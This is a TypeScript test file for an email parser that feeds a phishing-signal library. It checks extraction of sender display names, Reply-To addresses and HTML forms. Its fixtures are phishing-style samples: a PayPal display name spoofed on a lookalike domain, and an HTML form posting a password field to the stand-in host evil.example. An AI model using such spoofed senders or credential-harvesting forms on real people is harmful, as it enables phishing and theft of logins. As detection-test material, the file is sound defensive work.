/**
 * What the parser gives the signal library beyond the stored row: From's display name, the Reply-To
 * address and whether the HTML body holds a form (src/telemetry/raw-message.ts, mail/headers.ts).
 */
import { parseRawMessage } from '../../../src/telemetry/raw-message.js';

const eml = (headers: string[], body = 'Please pay.', type = 'text/plain') =>
  [...headers, 'Subject: Invoice', `Content-Type: ${type}; charset=utf-8`, '', body, ''].join('\r\n');

describe('senderName and replyTo', () => {
  it('reads the display name, RFC 2047 decoded and unquoted, and the first Reply-To address', async () => {
    const m = await parseRawMessage(
      eml([
        'From: "=?UTF-8?B?UGF5UGFsIFNlcnZpY2U=?=" <service@pp-help.example>',
        'Reply-To: Desk <Desk@Helpdesk.example>, other@x.example',
      ]),
    );
    expect(m.senderName).toBe('PayPal Service');
    expect(m.replyTo).toBe('desk@helpdesk.example');
  });

  it('keeps a display name with commas and addresses whole, and reads none when there is none', async () => {
    const spoof = await parseRawMessage(eml(['From: "service@paypal.com, Billing" <x@sender.example>']));
    expect(spoof.senderName).toBe('service@paypal.com, Billing');
    const bare = await parseRawMessage(eml(['From: billing@vendor.example']));
    expect(bare.senderName).toBeUndefined();
    expect(bare.replyTo).toBeUndefined();
  });
});

describe('hasForm', () => {
  it('is true for an HTML body with a form, false otherwise', async () => {
    const form = '<html><body><form action="https://evil.example/post"><input name="password"></form></body></html>';
    expect((await parseRawMessage(eml(['From: a@b.example'], form, 'text/html'))).hasForm).toBe(true);
    expect((await parseRawMessage(eml(['From: a@b.example'], '<p>Hello</p>', 'text/html'))).hasForm).toBe(false);
    expect((await parseRawMessage(eml(['From: a@b.example']))).hasForm).toBe(false);
  });
});
